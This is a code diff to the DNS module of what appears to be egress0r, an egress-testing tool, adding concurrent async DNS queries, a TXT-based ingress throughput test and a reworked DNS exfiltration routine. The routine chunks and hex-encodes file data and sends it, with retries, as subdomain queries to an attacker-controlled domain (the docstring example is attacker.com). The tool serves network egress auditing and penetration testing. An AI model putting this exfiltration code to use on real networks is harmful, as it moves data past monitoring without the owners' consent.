@@ -1,11 +1,22 @@
-import binascii
+import asyncio
+import time
 from collections import namedtuple
 from ipaddress import ip_address
 
 import dns
+import dns.asyncquery
+import dns.asyncresolver
 import dns.exception
+import dns.flags
+import dns.message
+import dns.name
+import dns.rcode
+import dns.rdataclass
+import dns.rdatatype
 import dns.resolver
 
+from egress0r import ratelimit, rtt
+from egress0r.engines import DNSTCPConnection
 from egress0r.message import NegativeMessage, PositiveMessage, UnknownMessage
 from egress0r.utils import is_ipv4_addr, is_ipv6_addr
 
@@ -18,9 +29,81 @@ QueryStatus = namedtuple(
         "is_expected_answer",
         "status",
         "is_internal_dns",
+        "transport",
+        "elapsed",
     ],
+    defaults=("udp", None),
 )
 
+_DNSExfilResult = namedtuple(
+    "_DNSExfilResult",
+    [
+        "delivered",
+        "total",
+        "chunks",
+        "lost_chunks",
+        "queries",
+        "lost_queries",
+        "markers",
+        "elapsed",
+        "transport",
+    ],
+    defaults=("udp",),
+)
+
+
+class DNSExfilResult(_DNSExfilResult):
+    """Outcome of a DNS exfil, sizes in bytes and elapsed time in seconds.
+
+    Chunks are lost if none of their queries were answered, queries counts
+    every chunk query sent including retries. markers is True if both the
+    start and the end of file marker were resolved, elapsed covers the chunk
+    queries only.
+    """
+
+    @property
+    def loss(self):
+        """Share of the chunk queries which went unanswered."""
+        return self.lost_queries / self.queries if self.queries else 0.0
+
+    @property
+    def chunk_loss(self):
+        """Share of the chunks which were lost even after all retries."""
+        return self.lost_chunks / self.chunks if self.chunks else 0.0
+
+    @property
+    def complete(self):
+        return self.markers and not self.lost_chunks
+
+
+_DNSIngressResult = namedtuple(
+    "_DNSIngressResult",
+    [
+        "nameserver",
+        "is_internal_dns",
+        "queries",
+        "answers",
+        "received",
+        "truncated",
+        "elapsed",
+    ],
+)
+
+
+class DNSIngressResult(_DNSIngressResult):
+    """Downstream throughput through a single nameserver.
+
+    received counts the bytes of the answers, truncated how many answers
+    had the TC bit set over UDP and were fetched again over TCP.
+    """
+
+    @property
+    def rate(self):
+        """Bytes per second, None if nothing was received in measurable time."""
+        if not self.received or self.elapsed <= 0:
+            return None
+        return self.received / self.elapsed
+
 
 class Query:
     def __init__(self, record=None, record_type=None, expected_answers=None):
@@ -55,6 +138,15 @@ class DNSCheck:
     """Perform DNS related checks."""
 
     DEFAULT_TIMEOUT = 5
+    DEFAULT_CONCURRENCY = 32
+    DEFAULT_EXFIL_WINDOW = 1
+    DEFAULT_EXFIL_RETRIES = 0
+    VALID_TRANSPORTS = ("udp", "tcp")
+    DEFAULT_TRANSPORTS = ("udp",)
+    DEFAULT_EXFIL_TRANSPORT = "udp"
+    DEFAULT_INGRESS_COUNT = 32
+    DEFAULT_INGRESS_PAYLOAD_SIZE = 4096
+    DEFAULT_INGRESS_WINDOW = 1
     START_MESSAGE = "Performing DNS checks..."
 
     def __init__(
@@ -65,7 +157,23 @@ class DNSCheck:
         with_ipv4=True,
         with_ipv6=True,
         exfil_payload=None,
+        exfil_error=None,
+        concurrency=DEFAULT_CONCURRENCY,
+        exfil_window=DEFAULT_EXFIL_WINDOW,
+        exfil_retries=DEFAULT_EXFIL_RETRIES,
+        transports=DEFAULT_TRANSPORTS,
+        exfil_transport=DEFAULT_EXFIL_TRANSPORT,
+        ingress_record=None,
+        ingress_count=DEFAULT_INGRESS_COUNT,
+        ingress_payload_size=DEFAULT_INGRESS_PAYLOAD_SIZE,
+        ingress_window=DEFAULT_INGRESS_WINDOW,
     ):
+        for transport in (*transports, exfil_transport):
+            if transport not in self.VALID_TRANSPORTS:
+                raise ValueError(
+                    f"DNSCheck expects transports to be one of "
+                    f"{self.VALID_TRANSPORTS}, got {transport!r}"
+                )
         self.with_ipv4 = with_ipv4
         self.with_ipv6 = with_ipv6
         self.queries = queries
@@ -75,15 +183,290 @@ class DNSCheck:
             self.read_internal_nameservers()
         )
         self.exfil_payload = exfil_payload
-
-    def _setup_resolver(self, timeout, nameservers=None):
+        self.exfil_error = exfil_error
+        self.concurrency = max(1, int(concurrency))
+        self.exfil_window = max(1, int(exfil_window))
+        self.exfil_retries = max(0, int(exfil_retries))
+        self.transports = tuple(transports)
+        self.exfil_transport = exfil_transport
+        self.ingress_record = ingress_record
+        self.ingress_count = max(1, int(ingress_count))
+        self.ingress_payload_size = int(ingress_payload_size)
+        self.ingress_window = max(1, int(ingress_window))
+        self._connections = {}
+
+    def _setup_resolver(self, timeout, nameservers=None, factory=dns.resolver.Resolver):
         """Configure a new resolver with the given timeout and nameservers."""
-        resolver = dns.resolver.Resolver(configure=False)
+        resolver = factory(configure=False)
         resolver.timeout = timeout
         resolver.lifetime = timeout
         resolver.nameservers = nameservers or []
         return resolver
 
+    def _connection(self, nameserver):
+        """Return the TCP connection to nameserver shared by all queries of a run."""
+        if nameserver not in self._connections:
+            self._connections[nameserver] = DNSTCPConnection(nameserver)
+        return self._connections[nameserver]
+
+    async def _resolve_tcp(self, nameserver, qname, rdtype, timeout):
+        """Resolve qname over the TCP connection to nameserver.
+
+        Errors are raised like the resolver raises them, the answer is a
+        dns.resolver.Answer as well.
+        """
+        qname = dns.name.from_text(qname)
+        rdtype = dns.rdatatype.RdataType.make(rdtype)
+        message = dns.message.make_query(qname, rdtype)
+        try:
+            response = await asyncio.wait_for(
+                self._connection(nameserver).query(message), timeout
+            )
+        except asyncio.TimeoutError:
+            raise dns.exception.Timeout(timeout=timeout) from None
+        rcode = response.rcode()
+        if rcode == dns.rcode.NXDOMAIN:
+            raise dns.resolver.NXDOMAIN(qnames=[qname], responses={qname: response})
+        if rcode != dns.rcode.NOERROR:
+            port = self._connection(nameserver).port
+            errors = [(nameserver, True, port, dns.rcode.to_text(rcode), response)]
+            raise dns.resolver.NoNameservers(request=message, errors=errors)
+        answer = dns.resolver.Answer(
+            qname, rdtype, dns.rdataclass.IN, response, nameserver
+        )
+        if answer.rrset is None:
+            raise dns.resolver.NoAnswer(response=response)
+        return answer
+
+    def _was_answered(self, error):
+        """Determine if the nameserver responded to a query which raised error.
+
+        NXDOMAIN, NoAnswer and error rcodes are responses of the nameserver,
+        only timeouts and network errors mean the query got lost.
+        """
+        if isinstance(error, dns.resolver.NoNameservers):
+            return any(response is not None for *_, response in error.kwargs["errors"])
+        return isinstance(
+            error,
+            (dns.resolver.NXDOMAIN, dns.resolver.NoAnswer, dns.resolver.YXDOMAIN),
+        )
+
+    async def _resolve(self, semaphore, nameserver, qname, rdtype, transport="udp"):
+        """Resolve qname with a single nameserver once semaphore permits.
+
+        The timeout is derived from the round trip times previously measured
+        against the nameserver over transport, self.timeout being the upper
+        bound. Over UDP each query gets a resolver of its own, over TCP all
+        queries to a nameserver share a connection. Returns the answer and
+        the seconds it took.
+        """
+        async with semaphore:
+            estimator = rtt.get("dns", nameserver, transport)
+            timeout = estimator.timeout(self.timeout)
+            limiter = ratelimit.get()
+            wait = limiter.take()
+            if wait > 0:
+                await asyncio.sleep(wait)
+            started = time.monotonic()
+            try:
+                if transport == "tcp":
+                    answer = await self._resolve_tcp(nameserver, qname, rdtype, timeout)
+                else:
+                    resolver = self._setup_resolver(
+                        timeout, [nameserver], factory=dns.asyncresolver.Resolver
+                    )
+                    answer = await resolver.resolve(qname, rdtype)
+            except dns.exception.Timeout:
+                limiter.report(True)
+                raise
+            except dns.exception.DNSException as e:
+                if self._was_answered(e):
+                    limiter.report(False)
+                raise
+            elapsed = time.monotonic() - started
+            limiter.report(False)
+            estimator.add_sample(elapsed)
+            return answer, elapsed
+
+    async def _query_status(
+        self, semaphore, query, dns_server, is_internal_dns, transport
+    ):
+        """Resolve a single query with a single nameserver, returns a QueryStatus."""
+        answer = None
+        status = False
+        was_expected = None
+        elapsed = None
+        try:
+            answer, elapsed = await self._resolve(
+                semaphore, dns_server, query.record, query.record_type, transport
+            )
+            status = True
+            if any(query.expected_answers):
+                was_expected = query.answer_is_expected(answer)
+        except (dns.exception.DNSException, OSError):
+            pass
+        return QueryStatus(
+            query,
+            dns_server,
+            answer,
+            was_expected,
+            status,
+            is_internal_dns,
+            transport,
+            elapsed,
+        )
+
+    async def _gather_queries(self, queries, matrices):
+        semaphore = asyncio.Semaphore(self.concurrency)
+        tasks = [
+            [
+                self._query_status(
+                    semaphore, query, dns_server, is_internal_dns, transport
+                )
+                for query in queries
+                for dns_server in nameservers
+                for transport in self.transports
+            ]
+            for nameservers, is_internal_dns in matrices
+        ]
+        results = await asyncio.gather(*(task for matrix in tasks for task in matrix))
+        grouped = []
+        for matrix in tasks:
+            grouped.append(results[: len(matrix)])
+            results = results[len(matrix) :]
+        return grouped
+
+    def query_matrices(self, queries, matrices):
+        """Perform all queries against several groups of nameservers at once.
+
+        Arguments:
+            queries - list of Query objects to resolve.
+            matrices - list of (nameservers, is_internal_dns) tuples
+
+        Up to self.concurrency queries are in flight at the same time, spread
+        over all groups, so unanswered queries cost about one timeout in total
+        rather than one timeout each. Every query is resolved over each of
+        self.transports. Returns a list of QueryStatus lists, one per group,
+        each ordered by query, nameserver and transport like perform_queries.
+        """
+        return self._run(self._gather_queries(queries, matrices))
+
+    async def _close_connections(self):
+        connections, self._connections = self._connections, {}
+        for connection in connections.values():
+            await connection.close()
+
+    def _run(self, coroutine):
+        """Run coroutine in a new event loop, returns its result."""
+        loop = asyncio.new_event_loop()
+        try:
+            return loop.run_until_complete(coroutine)
+        finally:
+            loop.run_until_complete(self._close_connections())
+            loop.close()
+
+    async def _ingress_query(self, semaphore, nameserver, qname):
+        """Fetch the TXT records of qname, over TCP if the UDP answer was truncated.
+
+        Returns the size of the answer in bytes and whether it was truncated,
+        the size is 0 if the nameserver didn't answer with records.
+        """
+        async with semaphore:
+            message = dns.message.make_query(
+                qname,
+                dns.rdatatype.TXT,
+                use_edns=0,
+                payload=self.ingress_payload_size,
+            )
+            estimator = rtt.get("dns", nameserver, "udp")
+            limiter = ratelimit.get()
+            wait = limiter.take()
+            if wait > 0:
+                await asyncio.sleep(wait)
+            started = time.monotonic()
+            try:
+                response = await dns.asyncquery.udp(
+                    message, nameserver, timeout=estimator.timeout(self.timeout)
+                )
+            except dns.exception.Timeout:
+                limiter.report(True)
+                raise
+            limiter.report(False)
+            estimator.add_sample(time.monotonic() - started)
+            truncated = bool(response.flags & dns.flags.TC)
+            if truncated:
+                estimator = rtt.get("dns", nameserver, "tcp")
+                timeout = estimator.timeout(self.timeout)
+                started = time.monotonic()
+                try:
+                    response = await asyncio.wait_for(
+                        self._connection(nameserver).query(message), timeout
+                    )
+                except asyncio.TimeoutError:
+                    raise dns.exception.Timeout(timeout=timeout) from None
+                estimator.add_sample(time.monotonic() - started)
+            if response.rcode() != dns.rcode.NOERROR or not response.answer:
+                return 0, truncated
+            return len(response.to_wire()), truncated
+
+    async def _ingress(self, nameserver, is_internal_dns):
+        semaphore = asyncio.Semaphore(self.ingress_window)
+        qnames = [
+            self.ingress_record.format(index=index)
+            for index in range(self.ingress_count)
+        ]
+        errors = (dns.exception.DNSException, OSError)
+        started = time.monotonic()
+        try:
+            sizes = [await self._ingress_query(semaphore, nameserver, qnames[0])]
+        except errors:
+            sizes = []
+        if sizes and sizes[0][0]:
+            outcomes = await asyncio.gather(
+                *(self._ingress_query(semaphore, nameserver, q) for q in qnames[1:]),
+                return_exceptions=True,
+            )
+            for outcome in outcomes:
+                if isinstance(outcome, errors):
+                    continue
+                if isinstance(outcome, BaseException):
+                    raise outcome
+                sizes.append(outcome)
+        return DNSIngressResult(
+            nameserver,
+            is_internal_dns,
+            len(qnames),
+            sum(1 for size, _ in sizes if size),
+            sum(size for size, _ in sizes),
+            sum(1 for _, truncated in sizes if truncated),
+            time.monotonic() - started,
+        )
+
+    async def _gather_ingress(self, matrices):
+        results = []
+        for nameservers, is_internal_dns in matrices:
+            for nameserver in nameservers:
+                results.append(await self._ingress(nameserver, is_internal_dns))
+        return results
+
+    def ingress(self, matrices):
+        """Measure the downstream throughput through every nameserver.
+
+        Arguments:
+            matrices - list of (nameservers, is_internal_dns) tuples
+
+        self.ingress_count TXT queries for self.ingress_record are sent to
+        each nameserver, with an EDNS0 buffer of self.ingress_payload_size
+        bytes, up to self.ingress_window at once. A "{index}" in the record
+        is replaced with the number of the query, e.g. to get past caches
+        with a wildcard record. Answers truncated over UDP are fetched again
+        over the TCP connection to the nameserver. The nameservers are
+        measured one after another so they don't compete for bandwidth,
+        one which doesn't answer the first query isn't queried any further.
+        Returns a list of DNSIngressResult.
+        """
+        return self._run(self._gather_ingress(matrices))
+
     def read_internal_nameservers(self):
         """Read locally configured nameservers from /etc/resolv.conf."""
         ns = set()
@@ -104,31 +487,105 @@ class DNSCheck:
             nameservers - list of DNS server IPs (IPv4 or IPv6)
             is_internal_dns - bool indicating if the nameservers used to
                               resolve are domains coming from /etc/resolv.conf
+
+        The queries are resolved concurrently, see query_matrices, the
+        QueryStatus objects are yielded ordered by query, nameserver and
+        transport.
         """
-        resolver = self._setup_resolver(self.timeout)
-        for query in queries:
-            for dns_server in nameservers:
-                resolver.nameservers = [dns_server]
-                answer = None
-                status = False
-                was_expected = None
-                try:
-                    answer = resolver.query(query.record, query.record_type)
-                    status = True
-                    if any(query.expected_answers):
-                        was_expected = query.answer_is_expected(answer)
-                except dns.exception.DNSException:
-                    pass
-
-                yield QueryStatus(
-                    query, dns_server, answer, was_expected, status, is_internal_dns
+        (statuses,) = self.query_matrices(queries, [(nameservers, is_internal_dns)])
+        yield from statuses
+
+    def _exfil_qnames(self, payload):
+        """Return the qnames of the start marker, the chunks and the end marker.
+
+        The qnames of the chunks are returned with their payload bytes as a
+        list of (qname, chunk) tuples. Each qname is prefixed with the index
+        of its chunk, so chunks arriving out of order or more than once can be
+        put back together and missing ones spotted.
+        """
+        filename = payload.filename.encode("ascii")
+        chunks = []
+        for index, chunk in enumerate(c for c in payload.chunk_iter() if c):
+            chunks.append((payload.qname(chunk, str(index)), chunk))
+        return payload.qname(filename, "sof"), chunks, payload.qname(filename, "eof")
+
+    async def _exfil_query(self, semaphore, payload, qname, attempts):
+        """Resolve qname, retrying lost queries, returns the number of failures.
+
+        A query counts as delivered once the nameserver responded to it, even
+        if the response is an error like NXDOMAIN, as the data has reached it.
+        """
+        failures = 0
+        for _ in range(attempts):
+            try:
+                await self._resolve(
+                    semaphore,
+                    payload.nameserver,
+                    qname,
+                    payload.record_type,
+                    self.exfil_transport,
                 )
+                return failures
+            except (dns.exception.Timeout, OSError):
+                failures += 1
+            except dns.exception.DNSException as e:
+                if self._was_answered(e):
+                    return failures
+                failures += 1
+        return failures
+
+    async def _exfil(self, payload):
+        semaphore = asyncio.Semaphore(self.exfil_window)
+        attempts = 1 + self.exfil_retries
+        sof, chunks, eof = self._exfil_qnames(payload)
+        total = sum(len(chunk) for _, chunk in chunks)
+        if await self._exfil_query(semaphore, payload, sof, attempts) == attempts:
+            return DNSExfilResult(
+                0,
+                total,
+                len(chunks),
+                len(chunks),
+                0,
+                0,
+                False,
+                0.0,
+                self.exfil_transport,
+            )
+        started = time.monotonic()
+        failures = await asyncio.gather(
+            *(
+                self._exfil_query(semaphore, payload, qname, attempts)
+                for qname, _ in chunks
+            )
+        )
+        elapsed = time.monotonic() - started
+        markers = await self._exfil_query(semaphore, payload, eof, attempts) < attempts
+        delivered = lost = queries = 0
+        for (_, chunk), failed in zip(chunks, failures):
+            if failed < attempts:
+                delivered += len(chunk)
+                queries += failed + 1
+            else:
+                lost += 1
+                queries += failed
+        return DNSExfilResult(
+            delivered,
+            total,
+            len(chunks),
+            lost,
+            queries,
+            sum(failures),
+            markers,
+            elapsed,
+            self.exfil_transport,
+        )
 
     def exfil(self, payload):
-        """Exfiltrate the passed payload.
+        """Exfiltrate the passed payload, returns a DNSExfilResult.
 
-        The payload content is hex encoded and then chunked, each chunk is then being
-        queried as a subdomain of the attacker's controlled second-level domain.
+        The payload content is chunked, each chunk is then being encoded, hex by
+        default, and queried as a subdomain of the attacker's controlled
+        second-level domain.
 
         Example:
 
@@ -146,9 +603,9 @@ class DNSCheck:
 
                 1st query:  sof.<hex encoded filename>.attacker.com
 
-                2nd query:  <1. hex encoded chunk>.attacker.com
-                3rd query:  <2. hex encoded chunk>.attacker.com
-                4th query:  <3. hex encoded chunk>.attacker.com
+                2nd query:  0.<1. hex encoded chunk>.attacker.com
+                3rd query:  1.<2. hex encoded chunk>.attacker.com
+                4th query:  2.<3. hex encoded chunk>.attacker.com
 
                 5th query: eof.<hex encoded filename>.attacker.com
 
@@ -156,20 +613,19 @@ class DNSCheck:
             the attackers DNS log file. Those two queries are always performed.
 
             The second, third and fourth queries each contain
-            payload.chunk_size, hex encoded, bytes.
+            payload.chunk_size, hex encoded, bytes, tagged with the index of
+            their chunk. Encoded chunks longer than a label permits are split
+            into several labels.
+
+        Up to self.exfil_window chunk queries are in flight at once, chunk
+        queries which failed are sent again up to self.exfil_retries times
+        while later chunks keep flowing. The index tags let the collector put
+        chunks arriving out of order or twice back together and spot missing
+        ones. The end of file marker is only sent
+        once all chunk queries are done. If the start of file marker can't be
+        resolved, no chunks are sent.
         """
-        resolver = self._setup_resolver(self.timeout, [payload.nameserver])
-        hex_fname = binascii.hexlify(payload.filename.encode("ascii")).decode("ascii")
-        try:
-            resolver.query(f"sof.{hex_fname}.{payload.domain}", payload.record_type)
-            for chunk in payload.chunk_iter():
-                encoded_chunk = binascii.hexlify(chunk).decode("ascii")
-                resolver.query(f"{encoded_chunk}.{payload.domain}", payload.record_type)
-            resolver.query(f"eof.{hex_fname}.{payload.domain}", payload.record_type)
-            return True
-        except dns.exception.DNSException:
-            pass
-        return False
+        return self._run(self._exfil(payload))
 
     def _filter_nameservers(self, nameservers):
         """Remove nameservers which we can't use due to our IPv4 or IPv6 configuration."""
@@ -188,12 +644,14 @@ class DNSCheck:
             internal_or_external = "internal"
         success_msg = (
             f"Resolved {qs.query.record_type} {qs.query.record} with "
-            f"{internal_or_external} DNS {qs.dns_server}"
+            f"{internal_or_external} DNS {qs.dns_server} over {qs.transport}"
         )
+        if qs.elapsed is not None:
+            success_msg += f" in {qs.elapsed * 1000:.0f} ms"
         unknown_msg = success_msg + " - BUT the response was not expected"
         fail_msg = (
             f"Failed to resolve {qs.query.record_type} {qs.query.record} "
-            f"with {internal_or_external} DNS {qs.dns_server}"
+            f"with {internal_or_external} DNS {qs.dns_server} over {qs.transport}"
         )
         if qs.status and qs.is_expected_answer is False:
             return UnknownMessage(message=unknown_msg)
@@ -201,22 +659,61 @@ class DNSCheck:
             return PositiveMessage(message=success_msg)
         return NegativeMessage(message=fail_msg)
 
+    def _exfil_message(self, domain, result):
+        loss = (
+            f"{result.chunk_loss:.0%} of {result.chunks} chunks lost, "
+            f"{result.loss:.0%} of {result.queries} chunk queries unanswered"
+        )
+        if result.complete:
+            msg = (
+                f"Exfiltrated {result.delivered} bytes of data to {domain} "
+                f"over {result.transport}"
+            )
+            if result.elapsed > 0:
+                msg += f" at {result.delivered / result.elapsed:.0f} bytes/s"
+            if result.lost_queries:
+                msg += f", {loss}"
+            return PositiveMessage(msg)
+        if not result.queries:
+            return NegativeMessage(
+                f"Failed to exfiltrate data to {domain} over {result.transport}"
+            )
+        return NegativeMessage(
+            f"Failed to exfiltrate data to {domain} over {result.transport}, "
+            f"{result.delivered} of {result.total} bytes delivered, {loss}"
+        )
+
+    def _ingress_message(self, result):
+        internal_or_external = "internal" if result.is_internal_dns else "external"
+        source = f"{internal_or_external} DNS {result.nameserver}"
+        if not result.answers:
+            return NegativeMessage(
+                f"Failed to receive TXT answers for {self.ingress_record} from {source}"
+            )
+        msg = f"{result.answers} of {result.queries} TXT answers from {source}"
+        if result.rate is not None:
+            msg += f" at {result.rate:.0f} bytes/s"
+        if result.truncated:
+            msg += f", {result.truncated} truncated and fetched over tcp"
+        if result.answers < result.queries:
+            return NegativeMessage(f"Received only {msg}")
+        return PositiveMessage(f"Received {result.received} bytes in {msg}")
+
     def check(self):
         """Perform all configured tests."""
         int_or_ext = (False, True)
         ns_tuple = (self.external_dns_servers, self.internal_dns_servers)
-        for is_internal, nameservers in zip(int_or_ext, ns_tuple):
-            response_iter = self.perform_queries(
-                self.queries, nameservers, is_internal_dns=is_internal
-            )
-            for query_status in response_iter:
+        matrices = self.query_matrices(self.queries, list(zip(ns_tuple, int_or_ext)))
+        for is_internal, statuses in zip(int_or_ext, matrices):
+            for query_status in statuses:
                 yield self._query_status_to_message(query_status, is_internal)
 
-        if self.exfil_payload is not None:
-            exfil_success = self.exfil(self.exfil_payload)
-            if exfil_success:
-                yield PositiveMessage(
-                    f"Exfiltrated {self.exfil_payload.chunks_total_length} bytes of data to {self.exfil_payload.domain}"
-                )
-            else:
-                yield NegativeMessage("Failed to exfiltrate data")
+        if self.ingress_record is not None:
+            for result in self.ingress(list(zip(ns_tuple, int_or_ext))):
+                yield self._ingress_message(result)
+
+        if self.exfil_error is not None:
+            yield NegativeMessage(f"Failed to exfiltrate data: {self.exfil_error}")
+        elif self.exfil_payload is not None:
+            result = self.exfil(self.exfil_payload)
+            yield self._exfil_message(self.exfil_payload.domain, result)